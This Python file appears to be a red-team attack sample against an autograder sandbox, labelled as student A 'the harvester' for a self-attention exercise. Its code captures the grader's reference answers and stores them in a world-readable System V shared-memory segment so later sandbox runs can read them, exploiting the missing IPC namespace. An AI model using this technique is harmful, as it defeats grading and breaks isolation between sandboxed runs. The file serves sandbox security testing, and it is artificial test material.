# Attack 04, student A (the harvester). A's own step functions do not pass, so the grader stands
# in for all of them when it grades A's self_attention, "only with values of the test being run".
# A's self_attention asks the stand-ins every value of the test being run (Q, K, V, the scores,
# the weights and each row of them, the output) and writes them, keyed by their inputs, into a
# System V shared-memory segment that any later sandbox child on the machine can read (mode 0666;
# the sandbox makes no IPC namespace and Landlock does not cover System V IPC).
import ctypes
import hashlib
import json

import numpy as np

_KEY = 0x7A7A0104
_SIZE = 8 << 20
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]


def _shm_read():
    sid = _libc.shmget(_KEY, _SIZE, 0o1666)
    if sid < 0:
        return {}
    addr = _libc.shmat(sid, None, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        return {}
    try:
        n = int.from_bytes(ctypes.string_at(addr, 4), "little")
        return json.loads(ctypes.string_at(addr + 4, n)) if 0 < n < _SIZE - 4 else {}
    except Exception:
        return {}
    finally:
        _libc.shmdt(addr)


def _shm_write(state):
    data = json.dumps(state).encode()
    sid = _libc.shmget(_KEY, _SIZE, 0o1666)
    addr = _libc.shmat(sid, None, 0)
    ctypes.memmove(addr, len(data).to_bytes(4, "little") + data, 4 + len(data))
    _libc.shmdt(addr)


def _key(name, *args):
    digest = hashlib.sha256(name.encode())
    for a in args:
        a = np.asarray(a, float)
        digest.update(repr(a.shape).encode() + np.round(a, 8).tobytes())
    return digest.hexdigest()


def _plain(value):
    return [np.asarray(v, float).tolist() for v in value] if isinstance(value, tuple) else np.asarray(value, float).tolist()


def make_qkv(X, W_Q, W_K, W_V):
    raise NotImplementedError


def scores(Q, K):
    raise NotImplementedError


def softmax(x):
    raise NotImplementedError


def mix(weights, V):
    raise NotImplementedError


def most_attended(weights, words):
    raise NotImplementedError


def self_attention(X, W_Q, W_K, W_V):
    table = _shm_read()
    Q, K, V = make_qkv(X, W_Q, W_K, W_V)          # the grader's stand-in answers
    table[_key("make_qkv", X, W_Q, W_K, W_V)] = _plain((Q, K, V))
    S = scores(Q, K)
    table[_key("scores", Q, K)] = _plain(S)
    scaled = S / np.sqrt(K.shape[1])
    weights = softmax(scaled)
    table[_key("softmax", scaled)] = _plain(weights)
    for row in scaled:
        table[_key("softmax", row)] = _plain(softmax(row))
    output = mix(weights, V)
    table[_key("mix", weights, V)] = _plain(output)
    _shm_write(table)
    return output, weights
